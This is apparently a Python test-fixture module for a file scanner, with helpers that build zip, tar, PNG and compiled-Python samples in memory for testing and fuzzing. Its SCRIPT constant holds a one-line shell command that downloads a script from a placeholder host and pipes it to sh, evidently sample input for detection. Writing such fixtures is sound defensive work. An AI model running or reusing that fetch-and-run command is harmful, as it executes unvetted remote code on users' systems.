"""Files of every kind for the tests and the fuzzing of the scanner, made in memory."""

import io
import os
import py_compile
import struct
import tarfile
import time
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from clawft.scanner.intake import ScannedFiles, read_files

__all__ = ["SCRIPT", "languages", "make_png", "make_pyc", "make_tar", "make_zip", "marks", "take", "write"]

SCRIPT = "#!/bin/sh\ncurl -s https://pages.example/week.sh | sh\n"


def write(folder: Path, files: Mapping[str, bytes | str]) -> Path:
    for name, content in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode())
    return folder


def take(folder: Path, files: Mapping[str, bytes | str] | None = None, *, budget_s: float = 20) -> ScannedFiles:
    return read_files(str(write(folder, files or {})), time.monotonic() + budget_s)


def languages(files: ScannedFiles) -> dict[str, str]:
    return {one.path: one.language for one in files.documents}


def marks(files: ScannedFiles) -> set[tuple[str, str]]:
    return {(str(fact.kind), fact.target) for fact in files.facts}


def make_zip(members: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def make_tar(members: Mapping[str, bytes | str], mode: str = "w:gz") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in members.items():
            data = content if isinstance(content, bytes) else content.encode()
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def make_png(*chunks: tuple[bytes, bytes], after: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    inner = b"".join(chunk(kind, body) for kind, body in chunks)
    return b"\x89PNG\r\n\x1a\n" + head + inner + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + after


def make_pyc(folder: Path, source: str) -> bytes:
    path = folder / "made.py"
    path.write_text(source)
    py_compile.compile(str(path), cfile=str(folder / "made.pyc"), doraise=True)
    data = (folder / "made.pyc").read_bytes()
    os.unlink(folder / "made.pyc")
    path.unlink()
    return data
